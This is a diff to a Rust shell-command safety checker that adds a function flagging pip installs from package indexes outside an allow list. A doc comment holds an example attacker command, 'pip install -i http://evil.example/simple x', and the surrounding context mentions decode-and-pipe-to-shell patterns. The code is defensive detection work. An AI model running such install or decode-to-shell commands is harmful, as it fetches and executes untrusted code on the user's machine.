@@ -420,6 +420,35 @@ fn installs_from_address(text: &str) -> Option<Shell> {
         .then_some(Shell::Hostile("it installs a package from a bare address"))
 }
 
+/// `pip install -i http://evil.example/simple x`: packages from an index that is none of those that everybody uses.
+pub(crate) fn takes_index(text: &str) -> bool {
+    const KNOWN: &[&str] = &[
+        "pypi.org",
+        "test.pypi.org",
+        "pypi.python.org",
+        "download.pytorch.org",
+        "pypi.nvidia.com",
+        "pypi.ngc.nvidia.com",
+        "wheels.vllm.ai",
+        "data.pyg.org",
+        "pypi.tuna.tsinghua.edu.cn",
+        "mirrors.aliyun.com",
+        "huggingface.co",
+        "github.com",
+        "storage.googleapis.com",
+    ];
+    let installs = ["pip install ", "pip3 install ", "uv pip install "].iter().any(|how| text.contains(how));
+    let mut words = text.split_whitespace().flat_map(|word| word.split('=')).peekable();
+    let mut foreign = false;
+    while let Some(word) = words.next() {
+        let option = matches!(word, "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links");
+        let host = words.peek().and_then(|next| next.split_once("://")).map(|(_, rest)| rest);
+        let host = host.and_then(|rest| rest.split(['/', ':', '?']).next());
+        foreign |= option && host.is_some_and(|host| !KNOWN.contains(&host));
+    }
+    installs && foreign
+}
+
 /// `base64 -d | sh` and its like.
 fn decoded_pipe(text: &str) -> Option<Shell> {
     let decoders =
